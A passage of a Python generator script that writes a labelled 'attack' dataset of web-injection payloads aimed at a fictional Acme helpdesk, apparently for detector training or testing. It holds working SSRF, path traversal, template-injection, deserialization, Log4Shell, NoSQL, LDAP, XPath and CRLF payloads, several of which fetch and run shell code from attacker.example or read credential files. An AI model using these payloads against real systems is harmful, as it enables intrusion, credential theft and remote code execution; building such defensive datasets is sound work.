    ("plain-backslash", r"..\..\..\windows\win.ini"),
    ("plain-dotdot+urlenc", "..%2F..%2F..%2Fetc%2Fpasswd"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-nested_strip_bypass", "....//....//etc/passwd"),
]

TRAV_T_CTX = [("avatar_path", "avatars/"), ("theme_asset", "assets/img/"), ("attachment_download", "48213/"),
              ("kb_article", "en-us/")]
TRAV_T_TARGET = ["etc/passwd", "etc/hosts", "proc/self/environ", "var/lib/acme/secrets/master.key",
                 "home/acme/.aws/credentials", "etc/acme/agent.yaml", "root/.ssh/id_ed25519"]


def tpl_traversal(rng):
    ctx, prefix = rng.choice(TRAV_T_CTX)
    depth = rng.randint(4, 8)
    return ctx + "-prefix_dotdot", prefix + "../" * depth + rng.choice(TRAV_T_TARGET)


# --------------------------------------------------------------------------
# SSRF. Contexts: webhook URL (server POSTs to it), avatar/attachment import
# by URL, RSS/status-page URLs, link previews in chat, HTML->PDF export.
# --------------------------------------------------------------------------
SSRF = [
    ("webhook_url-cloud_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("avatar_url-cloud_metadata_userdata", "http://169.254.169.254/latest/user-data"),
    ("attachment_url-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook_url-azure_metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("webhook_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook_url-localhost_admin", "http://127.0.0.1:8080/admin/"),
    ("integration_url-internal_elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("avatar_url-ipv6_loopback", "http://[::1]:6379/"),
    ("webhook_url-localhost+decimal_ip", "http://2130706433/"),
    ("webhook_url-consul+hex_ip", "http://0x7f000001:8500/v1/agent/self"),
    ("avatar_url-docker_api+octal_ip", "http://0177.0.0.1:2375/containers/json"),
    ("status_page_url-localhost+short_ip", "http://127.1/server-status"),
    ("webhook_url-werkzeug_console", "http://0.0.0.0:5000/console"),
    ("webhook_url-cloud_metadata+ipv6_mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("attachment_url-localhost+ipv6_mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8000/internal/"),
    ("webhook_url-dns_rebinding", "http://metadata.attacker.example/latest/meta-data/"),
    ("avatar_url-userinfo_confusion", "http://attacker.example@127.0.0.1:8080/"),
    ("webhook_url-userinfo_confusion_metadata", "https://hooks.attacker.example@169.254.169.254/latest/meta-data/"),
    ("attachment_url-backslash_confusion", r"http://127.0.0.1:6379\@attacker.example/"),
    ("avatar_url-open_redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook_url-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example/c%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("webhook_url-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cceo%40acme.example%3E%0D%0ARCPT%20TO%3A%3Cfinance%40acme.example%3E%0D%0ADATA%0D%0ASubject%3A%20urgent%20wire%0D%0A%0D%0APlease%20pay%20today.%0D%0A.%0D%0AQUIT%0D%0A"),
    ("integration_url-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("attachment_url-file_scheme_k8s_token", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("webhook_url-kubernetes_api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook_url-internal_actuator", "http://acme-billing.internal:8080/actuator/env"),
    ("integration_url-internal_rabbitmq", "http://10.0.12.5:15672/api/users"),
    ("avatar_url-docker_host", "http://172.17.0.1:2375/version"),
    ("webhook_url-aws_imds_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("rss_feed_url-aws_instance_data", "http://instance-data/latest/meta-data/public-keys/"),
    ("pdf_export_html-iframe_metadata", "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"800\" height=\"400\"></iframe>"),
    ("pdf_export_html-link_internal", "<link rel=\"stylesheet\" href=\"http://127.0.0.1:8080/admin/users.csv\">"),
    ("kb_markdown_import-image_metadata", "![logo](http://169.254.169.254/latest/meta-data/hostname)"),
    ("chat_link_preview-etcd", "Check this out: http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("webhook_url-localhost+urlenc_host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("webhook_url-cloud_metadata+mixed_radix_ip", "http://0xa9.0376.0xa9fe/latest/meta-data/"),
    ("avatar_url-cloud_metadata+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("webhook_url-ipv6_unspecified", "http://[::]:8080/"),
    ("webhook_url-localhost_alias", "http://localhost.localdomain:8080/admin"),
    ("integration_url-port_probe", "http://10.0.0.5:22/"),
    ("webhook_url-short_link_redirect", "https://go.attacker.example/meta"),
    ("status_page_url-zero_ip", "http://0:8000/metrics"),
    ("attachment_url-java_netdoc", "netdoc:///etc/passwd"),
    ("webhook_url-localhost+enclosed_alnum", "http://①②⑦.⓪.⓪.①:8080/"),
    ("calendar_ics_url-intranet", "http://intranet.corp.acme.example/hr/salaries.xlsx"),
    ("webhook_url-gcp_metadata_v1beta1", "http://metadata.google.internal/computeMetadata/v1beta1/instance/attributes/kube-env"),
    ("plain-cloud_metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file_scheme", "file:///etc/hosts"),
    ("plain-loopback_port", "http://127.0.0.1:22/"),
    ("plain-ipv6_loopback", "http://[::1]/"),
]

SSRF_T_CTX = ["webhook_url", "avatar_url", "attachment_url", "rss_feed_url", "status_page_url"]
SSRF_T_SERVICE = [
    "127.0.0.1:9200/_search?q=*", "localhost:8500/v1/kv/?recurse", "10.0.0.7:2375/containers/json",
    "127.0.0.1:5984/_all_dbs", "localhost:15672/api/users", "10.1.2.3:8080/jolokia/list",
    "127.0.0.1:9090/api/v1/targets", "localhost:8086/query?q=SHOW%20DATABASES",
]


def tpl_ssrf(rng):
    return rng.choice(SSRF_T_CTX) + "-internal_service", "http://" + rng.choice(SSRF_T_SERVICE)


# --------------------------------------------------------------------------
# Code injection: SSTI in macros/email templates (the helpdesk renders macros
# server-side), expression languages, Log4Shell-style lookups in logged
# fields, deserialization of session/widget state, YAML config import, XXE in
# XML ticket import and SVG attachments, prototype pollution in JSON settings,
# CSV/spreadsheet formulas in exported ticket fields.
# --------------------------------------------------------------------------
PHP_OBJ = 'O:13:"AcmeLogWriter":2:{s:4:"file";s:27:"/var/www/html/uploads/x.php";s:4:"data";s:28:"<?php system($_GET[\'c\']); ?>";}'

CODE = [
    ("macro_body-jinja2_ssti_cycler", "Hi {{first_name}}, {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("macro_body-jinja2_ssti_lipsum", "{{ lipsum.__globals__['os'].popen('curl http://attacker.example/$(hostname)').read() }}"),
    ("macro_body-jinja2_ssti_request", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("macro_body-jinja2_config_leak", "Thanks {{first_name}}! {{ config.items() }}"),
    ("macro_body-jinja2_subclasses_popen", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("macro_body-jinja2_attr_filter+hex_escapes", r"{{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}"),
    ("macro_body-twig_map_passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("macro_body-twig_filter_system", "{{ ['id']|filter('system') }}"),
    ("email_template-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("email_template-velocity_runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("macro_body-erb_backticks", "Hi <%= `id` %>"),
    ("macro_body-erb_file_read", "<%= File.read('/etc/passwd') %>"),
    ("macro_body-mako_import", "<% import os %>${os.popen('id').read()}"),
    ("macro_body-smarty_function", "{system('cat /etc/passwd')}"),
    ("macro_body-pug_interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("macro_body-ejs_execsync", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("macro_body-nunjucks_constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("template_name-thymeleaf_preprocessing", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("automation_rule-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("search_filter-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("custom_field-java_el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("macro_body-tornado_import", "{% import os %}{{ os.popen('id').read() }}"),
    ("macro_body-django_debug_tag", "{% debug %}"),
    ("macro_format-python_format_string", "Hi {ticket.__class__.__init__.__globals__[app].config[SECRET_KEY]}"),
    ("chat_message-log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("user_agent-log4shell_lower_lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("ticket_subject-log4shell_default_value_lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}"),
    ("chat_message-log4shell_env_exfil", "${jndi:ldap://${env:USER}.${hostName}.oob.attacker.example/x}"),
    ("ticket_subject-log4shell_localhost_bypass", "${jndi:ldap://127.0.0.1#attacker.example:1389/a}"),
    ("kb_search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fb%7D"),
    ("ticket_subject-log4shell_ldaps", "Fehler beim Login ${jndi:ldaps://attacker.example/e}"),
    ("session_restore-pickle", "cos\nsystem\n(S'curl http://attacker.example/p | sh'\ntR."),
    ("cart_state-php_object_injection", PHP_OBJ),
    ("widget_state-node_serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("config_import-pyyaml_apply", "!!python/object/apply:os.system [\"curl http://attacker.example/y | sh\"]"),
    ("config_import-pyyaml_subprocess", "sync:\n  interval: !!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("config_import-snakeyaml_classloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("xml_import-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE t [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<ticket><subject>&x;</subject></ticket>"),
    ("xml_import-xxe_oob_dtd", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><r/>"),
    ("kb_xml_import-xxe_ssrf", "<!DOCTYPE kb [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><article><title>&m;</title></article>"),
    ("xml_import-entity_expansion", "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><d>&g;&g;&g;&g;&g;&g;&g;&g;</d>"),
    ("xml_import-xinclude", "<ticket xmlns:xi=\"http://www.w3.org/2001/XInclude\"><subject>x</subject><body><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></body></ticket>"),
    ("attachment_svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&h;</text></svg>"),
    ("profile_json-prototype_pollution", "{\"display_name\": \"Ana\", \"__proto__\": {\"isAdmin\": true}}"),
    ("settings_json-constructor_prototype", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("query_string-prototype_pollution", "__proto__[debug]=true&__proto__[allowedOrigins][]=https://attacker.example"),
    ("csv_export-formula_hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for details\")"),
    ("csv_export-formula_dde", "=cmd|'/C powershell -nop -c IEX(iwr http://attacker.example/p)'!A1"),
    ("csv_export-formula_dde_at", "@SUM(1+1)*cmd|'/C calc'!A0"),
    ("csv_export-formula_webservice", "+WEBSERVICE(\"https://attacker.example/?\"&ENCODEURL(C2))"),
    ("csv_export-formula_minus_dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv_export-formula_importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:C20),\"//a\")"),
    ("csv_export-formula_hyperlink_de", "=HYPERLINK(\"https://attacker.example/rechnung?id=\"&A2;\"Rechnung öffnen\")"),
    ("formula_field-node_eval", "require('child_process').execSync('id').toString()"),
    ("sla_formula-python_eval", "__import__('os').popen('cat /etc/acme/secrets.env').read()"),
    ("sla_formula-python_eval_obfuscated", "getattr(__import__('o'+'s'),'sys'+'tem')('id')"),
    ("macro_body-ruby_interpolation", "#{`id`}"),
    ("automation_rule-groovy_execute", "\"curl http://attacker.example/g\".execute().text"),
    ("ticket_subject-log4shell_sys_lookup", "${jndi:ldap://${sys:java.version}.attacker.example/z}"),
    ("chat_message-jinja2_ssti_namespace", "{{ namespace.__init__.__globals__.os.system('id') }}"),
    ("ticket_json-log4shell+unicode", r'{"subject":"\u0024{jndi:ldap://attacker.example/u}"}'),
    ("macro_body-jinja2_subclass_leak", "Hi {{first_name}},\n\nThanks for contacting Acme support.\n{{ ''.__class__.__base__.__subclasses__() }}\n\nBest,\n{{agent.name}}"),
    ("email_template-razor_process_start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
    ("report_xslt-php_function", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:template></xsl:stylesheet>"),
    ("report_xslt-document_file_read", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet>"),
    ("plain-ssti_probe_jinja", "{{7*7}}"),
    ("plain-ssti_probe_el", "${7*7}"),
    ("plain-ssti_probe_erb", "<%= 7*7 %>"),
    ("plain-ssti_probe_ruby", "#{7*7}"),
    ("plain-jinja2_config", "{{config}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
]

# hand-written protocol-0 pickles; the template base64-encodes them the way a
# "restore session" field would carry them
PICKLES = [
    "cos\nsystem\n(S'id > /tmp/acme_p'\ntR.",
    "csubprocess\ncheck_output\n((lp0\nS'cat'\naS'/etc/passwd'\natR.",
    "cposix\nsystem\n(S'wget -qO- http://attacker.example/q | sh'\ntR.",
]
L4J_T_CARRIER = ["Login fails with {p}", "Order #4471 {p}", "{p} – please help", "Hallo {p}", "Name: {p}",
                 "Mozilla/5.0 (Windows NT 10.0) {p}"]
L4J_T_PROTO = ["ldap", "ldaps", "rmi", "dns"]
L4J_T_HOST = ["attacker.example", "l4.attacker.example", "198.51.100.23:1389", "203.0.113.77"]
L4J_T_PATH = ["a", "x", "ticket", "chat", "o"]
FORMULA_T = [
    ("csv_export-formula_hyperlink", "=HYPERLINK(\"https://attacker.example/{t}?c=\"&{cell},\"{label}\")"),
    ("csv_export-formula_webservice", "=WEBSERVICE(\"https://attacker.example/{t}?c=\"&{cell})"),
]
FORMULA_T_LABEL = ["Open ticket", "Ver factura", "Details ansehen", "Voir la pièce jointe", "添付を開く"]
FORMULA_T_CELL = ["A2", "B2", "C2", "D5", "E7"]


def tpl_code(rng):
    kind = rng.randint(0, 5)
    if kind == 0:
        raw = rng.choice(PICKLES)
        return "session_restore-pickle+base64", base64.b64encode(raw.encode()).decode()
    if kind in (1, 2, 3):
        look = "${jndi:%s://%s/%s}" % (rng.choice(L4J_T_PROTO), rng.choice(L4J_T_HOST), rng.choice(L4J_T_PATH))
        return "ticket_field-log4shell", rng.choice(L4J_T_CARRIER).format(p=look)
    cls, fmt = rng.choice(FORMULA_T)
    return cls, fmt.format(t=rng.choice(["x", "t", "c"]), cell=rng.choice(FORMULA_T_CELL),
                           label=rng.choice(FORMULA_T_LABEL))


# --------------------------------------------------------------------------
# NoSQL injection. Contexts: JSON login / ticket lookup bodies passed straight
# into MongoDB find(), query strings parsed into nested objects, $where
# strings built by concatenation, report pipelines, CouchDB Mango selectors.
# --------------------------------------------------------------------------
NOSQLI = [
    ("login_json-ne_operator", "{\"email\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("login_json-gt_operator", "{\"email\": \"admin@acme.example\", \"password\": {\"$gt\": \"\"}}"),
    ("login_json-regex", "{\"email\": {\"$regex\": \"^adm\"}, \"password\": {\"$ne\": \"x\"}}"),
    ("login_query-ne_operator", "email[$ne]=x&password[$ne]=x"),
    ("password_reset_query-regex_extract", "email=admin%40acme.example&reset_token[$regex]=^7f"),
    ("ticket_lookup_json-where_sleep", "{\"ticket_ref\": \"SUP-1042\", \"$where\": \"sleep(5000) || true\"}"),
    ("ticket_owner_where-js_tautology", "x' || '1'=='1"),
    ("ticket_owner_where-js_return_true", "'; return true; var x='"),
    ("ticket_owner_where-js_dos", "x'; while(true){}; var y='"),
    ("ticket_lookup_json-or_exists", "{\"status\": \"open\", \"$or\": [{\"org_id\": {\"$exists\": true}}]}"),
    ("login_json-in_operator", "{\"username\": {\"$in\": [\"admin\", \"root\", \"support\"]}, \"password\": {\"$gt\": \"\"}}"),
    ("search_json-expr_true", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("report_pipeline-lookup_leak", "[{\"$lookup\": {\"from\": \"agents\", \"localField\": \"org\", \"foreignField\": \"org\", \"as\": \"leak\"}}]"),
    ("search_json-function_operator", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("login_query-regex_wildcard", "email=admin%40acme.example&password[$regex]=.*"),
    ("api_token_json-type_operator", "{\"token\": {\"$type\": 2}}"),
    ("contact_lookup_json-nin_empty", "{\"email\": {\"$nin\": []}}"),
    ("couchdb_find-selector_gt_null", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password_hash\"]}"),
    ("login_query-ne_operator+urlenc", "email%5B%24ne%5D=1&password%5B%24ne%5D=1"),
    ("login_json-ne_operator+unicode", r'{"email": {"\u0024ne": null}, "password": {"\u0024ne": null}}'),
    ("ticket_lookup_json-where_blind", "{\"$where\": \"this.api_key && this.api_key[0] == 'a'\"}"),
    ("plain-ne_operator", "{\"$ne\": null}"),
    ("plain-query_ne", "[$ne]=1"),
    ("plain-where_tautology", "' || 1==1//"),
]

NOSQL_T_FIELD = ["email", "ticket_ref", "api_key", "agent_id", "reset_token", "org_slug"]
NOSQL_T_OP = [("ne_operator", "[$ne]=", ["", "x", "0"]), ("gt_operator", "[$gt]=", ["", "a"]),
              ("regex", "[$regex]=", ["^a", ".*", "^7"]), ("exists", "[$exists]=", ["true"])]


def tpl_nosqli(rng):
    f1 = rng.choice(NOSQL_T_FIELD)
    name, op, vals = rng.choice(NOSQL_T_OP)
    return "lookup_query-" + name, "{}{}{}&status=open".format(f1, op, rng.choice(vals))


# --------------------------------------------------------------------------
# CRLF / log / header / mail injection. Contexts: chat transcripts written to
# line-based logs, redirect and language parameters echoed in headers,
# download names in Content-Disposition, e-mail subject / from-name fields
# placed in raw message headers, SMTP dialogue, outgoing webhook headers.
# --------------------------------------------------------------------------
CRLF = [
    ("chat_log-forged_line", "ok\n2024-06-03T10:15:22Z INFO auth: login success user=admin ip=10.0.0.4 mfa=passed"),
    ("audit_log-forged_line", "thanks\r\n[2024-06-03 10:16:01] AUDIT agent=root action=refund amount=5000 ticket=48213 status=approved"),
    ("log_viewer-ansi_escape", "\x1b]2;owned\x07\x1b[1;31mALERT: disk full, run acmectl cleanup --all\x1b[0m"),
    ("redirect_param-set_cookie+urlenc", "/tickets%0d%0aSet-Cookie:%20session=attacker-fixed-0001;%20Path=/"),
    ("redirect_param-response_splitting+urlenc", "/help%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("download_filename-header_injection", "report.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("email_subject-bcc_injection", "Refund request\r\nBcc: everyone@acme.example, list@attacker.example"),
    ("email_subject-cc_injection", "Order question\nCc: finance@acme.example\nX-Priority: 1"),
    ("email_from_name-reply_to_injection", "Jane Doe\r\nReply-To: billing@attacker.example"),
    ("email_subject-body_injection", "Hi\r\nContent-Type: text/html\r\n\r\n<h1>Your account is suspended</h1><a href=https://attacker.example/verify>Verify now</a>"),
    ("redirect_param-set_cookie+unicode_truncation", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=attacker"),
    ("redirect_param-location+urlenc2", "%250d%250aLocation:%20https://attacker.example/"),
    ("transcript_email-smtp_rcpt_injection", "me@acme.example\r\nRCPT TO:<all-staff@acme.example>"),
    ("json_log-field_injection", "x\",\"level\":\"INFO\",\"msg\":\"refund approved\",\"user\":\"admin"),
    ("syslog-forged_line", "bye\n<13>Jun  3 10:20:00 helpdesk sshd[221]: Accepted password for root from 10.0.0.2 port 50022 ssh2"),
    ("language_param-set_cookie+urlenc", "en%0d%0aSet-Cookie:%20role=admin"),
    ("email_subject-bcc_injection+urlenc", "Hello%0ABcc:%20dump@attacker.example"),
    ("webhook_custom_header-request_splitting", "abc123\r\nHost: 127.0.0.1\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: 127.0.0.1"),
    ("auth_log-carriage_return_overwrite", "Invalid password for user bob\r[2024-06-03 10:22:00] login OK user=bob"),
    ("email_subject-bcc_injection_fr", "Merci pour votre aide\r\nBcc: liste@attacker.example"),
    ("chat_log-forged_line_nel", "Ticket closed\u0085[INFO] agent=root exported all contacts"),
    ("chat_log-forged_line_u2028", "bye\u2028[INFO] admin password reset completed for root"),
    ("client_ip_header-header_injection", "192.0.2.1\r\nX-Forwarded-For: 10.0.0.1"),
    ("csv_audit_log-row_injection", "fine\n2024-06-03,root,export_all_contacts,success"),
    ("plain-header_injection+urlenc", "%0AX-Injected:%201"),
    ("plain-set_cookie", "\r\nSet-Cookie: pwn=1"),
    ("plain-location+urlenc", "%0d%0aLocation: https://attacker.example"),
    ("plain-header_injection_lf", "\nX-Test: injected"),
]

CRLF_T_FIELD = [("redirect_param", "/tickets/48213"), ("language_param", "pt-BR"), ("email_subject", "Order 4471"),
                ("download_filename", "export.csv")]
CRLF_T_BREAK = [("", "\r\n"), ("", "\n"), ("+urlenc", "%0d%0a"), ("+urlenc", "%0a")]
CRLF_T_HEADER = [("set_cookie", "Set-Cookie: sid=attacker"), ("location", "Location: https://attacker.example/"),
                 ("bcc", "Bcc: all@attacker.example"), ("host", "X-Forwarded-Host: attacker.example")]


def tpl_crlf(rng):
    field, lead = rng.choice(CRLF_T_FIELD)
    enc, brk = rng.choice(CRLF_T_BREAK)
    hname, header = rng.choice(CRLF_T_HEADER)
    if enc:
        header = header.replace(" ", "%20")
    return "%s-%s_injection%s" % (field, hname, enc), lead + brk + header


# --------------------------------------------------------------------------
# LDAP filter and XPath injection. Contexts: agent directory search
# (&(objectClass=person)(cn=<v>)), LDAP login (&(uid=<u>)(userPassword=<p>)),
# XML knowledge base //article[title='<v>'] and XML agent store logins.
# --------------------------------------------------------------------------
LDAP_XPATH = [
    ("agent_directory-ldap_filter_breakout", "*)(uid=*))(|(uid=*"),
    ("ldap_login-ldap_and_true", "admin)(&)"),
    ("agent_directory-ldap_or_injection", "j*)(|(mail=*@acme.example)(objectClass=*)"),
    ("ldap_login-ldap_blind_password", "admin)(userPassword=a*"),
    ("agent_directory-ldap_group_enum", "*)(memberOf=cn=helpdesk-admins,ou=groups,dc=acme,dc=example"),
    ("ldap_login-ldap_null_byte+urlenc", "admin)%00"),
    ("agent_directory-ldap_objectclass", "*)(|(objectClass=*"),
    ("ldap_login-ldap_password_or", "x)(|(userPassword=*)"),
    ("ldap_login_password-ldap_wildcard", "*"),
    ("kb_xml_search-xpath_tautology", "' or '1'='1"),
    ("agent_xml_login-xpath_tautology", "x' or 1=1 or 'a'='a"),
    ("kb_xml_search-xpath_union", "x'] | //agent/* | //x['"),
    ("agent_xml_login-xpath_blind", "' or substring(//agent[1]/password,1,1)='s' or 'a'='b"),
    ("kb_xml_search-xpath_contains_breakout", "x') or true() or contains(title,'x"),
    ("kb_xml_search-xpath_doc_oob", "' or doc(concat('http://attacker.example/',name(/*))) or '"),
    ("agent_xml_login-xpath_structure_probe", "' or string-length(name(/*[1]))=4 or '"),
    ("kb_xml_search-xpath_count", "' or count(//agent)>0 or '"),
    ("plain-ldap_wildcard_breakout", "*)(cn=*"),
    ("plain-xpath_tautology", "' or ''='"),
    ("plain-ldap_and_true", "*)(&"),
]

LDAP_T_USER = ["admin", "root", "svc-acme", "helpdesk"]
LDAP_T_ATTR = ["userPassword", "telephoneNumber", "description", "mail"]
LDAP_T_PREFIX = ["a", "b", "7", "s", "x", "$"]


def tpl_ldap(rng):
    return "ldap_login-ldap_blind_attr", "%s)(%s=%s*" % (rng.choice(LDAP_T_USER), rng.choice(LDAP_T_ATTR),
                                                         rng.choice(LDAP_T_PREFIX))


# --------------------------------------------------------------------------
POOLS = {
    "sqli": (SQLI, tpl_sqli),
    "xss": (XSS, tpl_xss),
    "cmdi": (CMDI, tpl_cmdi),
    "traversal": (TRAVERSAL, tpl_traversal),
    "ssrf": (SSRF, tpl_ssrf),
    "code": (CODE, tpl_code),
    "nosqli": (NOSQLI, tpl_nosqli),
    "crlf": (CRLF, tpl_crlf),
    "ldap-xpath": (LDAP_XPATH, tpl_ldap),
}


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, target in TARGET:
        literals, template = POOLS[cat]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, v))
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        tries = 0
        while len(items) < target:
            tries += 1
            if tries > 100000:
                raise SystemExit("template for %s cannot reach %d" % (cat, target))
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((cat, len(items), n_lit))
        for cls, v in items:
            rows.append({"category": cat, "class": cls, "value": v})
    return rows, stats


def main():
    rows, stats = build()
    out = []
    for i, r in enumerate(rows, 1):
        v = r["value"]
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit("bad value in %s: %r" % (r["category"], v[:60]))
        if r["class"].count("-") < 1:
            raise SystemExit("bad class %r" % r["class"])
        obj = {"id": "%s-%05d" % (ID_PREFIX, i), "category": r["category"], "class": r["class"],
               "label": "attack", "value": v}
        out.append(json.dumps(obj, ensure_ascii=False))
    if len(set(r["value"] for r in rows)) != len(rows):
        raise SystemExit("duplicate values")
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(out) + "\n")
    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print("%-11s %3d  literals %3d" % (cat, n, n_lit))
    n_plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r["class"])
    print("%-11s %3d  literals %3d (%.0f%%)  plain %d  encoded %d" % (
        "TOTAL", len(rows), total_lit, 100.0 * total_lit / len(rows), n_plain, n_enc))
    print("wrote", path)


if __name__ == "__main__":
    main()
